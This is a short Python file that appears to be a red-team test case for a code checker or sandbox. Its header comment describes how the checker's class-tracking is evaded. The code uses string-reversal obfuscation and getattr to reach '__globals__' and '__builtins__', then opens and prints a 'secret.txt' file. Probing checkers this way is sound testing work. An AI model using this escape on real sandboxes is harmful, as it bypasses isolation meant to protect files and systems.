# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: a class nested in another class body is read as self.Inner (an attribute, so no class name is used as
# a value); objects._classes_as_values sees no class handed out, so the parameter k in call_read is taken for an
# object and k.fetch is "bound" (objects._bound). Reader.fetch then runs with a namedtuple as self, whose
# FIELDS (trusted as a class constant) is a run-time ["__globals__"] name for getattr.
from collections import namedtuple


class Holder:
    class Reader:
        FIELDS = ("name",)

        def fetch(self, fn):
            out = []
            for key in self.FIELDS:
                out.append(getattr(fn, key))
            return out

    def kind(self):
        return self.Reader


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Holder().kind(), box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
